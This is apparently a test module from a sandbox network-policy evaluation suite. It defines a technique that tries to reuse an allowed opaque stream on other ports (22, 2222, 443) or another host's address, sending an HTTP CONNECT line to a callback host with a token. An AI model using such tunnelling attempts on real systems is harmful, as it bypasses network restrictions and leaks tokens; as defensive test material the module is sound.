"""An opaque stream is allowed to one name at one port, and what it carries is not seen."""

from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Use an allowed opaque stream for another port, and another name's address at its port.",
    claim="E3",
    defences=("verdicts: every layer, every reading",),
    stopped_by=("port_not_allowed", "scheme_not_allowed", "hello_"),
    variants={"another port": ["stream", 22], "another name": ["packages", 2222], "the port of https": ["stream", 443]},
    quick=True,
)


def attack(case: Case, what: Any) -> None:
    case.connect(case.address(getattr(case.ground, what[0])), what[1], f"CONNECT {case.ground.callback}:443 {case.token}\r\n\r\n".encode())
